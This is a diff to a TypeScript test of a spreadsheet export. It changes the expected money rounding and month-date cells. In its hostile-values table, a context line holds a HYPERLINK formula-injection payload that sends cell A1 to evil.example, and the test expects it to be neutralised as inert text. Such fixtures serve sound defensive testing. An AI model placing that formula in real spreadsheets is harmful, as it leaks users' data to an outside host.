@@ -65,7 +65,7 @@ const CASES: Array<{ row: Row; cells: Expected[] }> = [
       ratio: 0.1 + 0.2,
       share: 0.125,
       pp: 0.05,
-      cost: 1.5,
+      cost: 1.005,
     },
     cells: [
       text('plain text'),
@@ -76,7 +76,8 @@ const CASES: Array<{ row: Row; cells: Expected[] }> = [
       number(0.30000000000000004, '#,##0.00'),
       number(0.125, '#,##0.0%'),
       number(5, PP),
-      number(1.5, '#,##0.00 "EUR"'),
+      // Money to the cent, half away from zero (1.005 is 1.00499999999999989... in binary).
+      number(1.01, '#,##0.00 "EUR"'),
     ],
   },
   {
@@ -89,7 +90,7 @@ const CASES: Array<{ row: Row; cells: Expected[] }> = [
       ratio: Number.POSITIVE_INFINITY,
       share: -0,
       pp: -0.0125,
-      cost: -2,
+      cost: -2.345,
     },
     cells: [
       inert('=HYPERLINK("https://evil.example/?q="&A1,"x")'),
@@ -100,7 +101,7 @@ const CASES: Array<{ row: Row; cells: Expected[] }> = [
       empty,
       number(0, '#,##0.0%'),
       number(-1.25, PP),
-      number(-2, '#,##0.00 "EUR"'),
+      number(-2.35, '#,##0.00 "EUR"'),
     ],
   },
   {
@@ -200,7 +201,10 @@ describe('a table of hostile values read back by openpyxl', () => {
       const cells = table.rows[i + 1]!;
       const where = `row ${i + 2} (${JSON.stringify(String(c.row.text).slice(0, 30))})`;
       expect(seen(cells[0]!, text(model.organization.id)), where).toEqual(text(model.organization.id));
-      expect(seen(cells[1]!, text(model.period.month)), where).toEqual(text(model.period.month));
+      // The month: the date of its first day, shown yyyy-mm.
+      expect(seen(cells[1]!, date('2026-03-01T00:00:00', 'yyyy-mm')), where).toEqual(
+        date('2026-03-01T00:00:00', 'yyyy-mm'),
+      );
       expect(
         cells.slice(2).map((cell, j) => seen(cell, c.cells[j]!)),
         where,
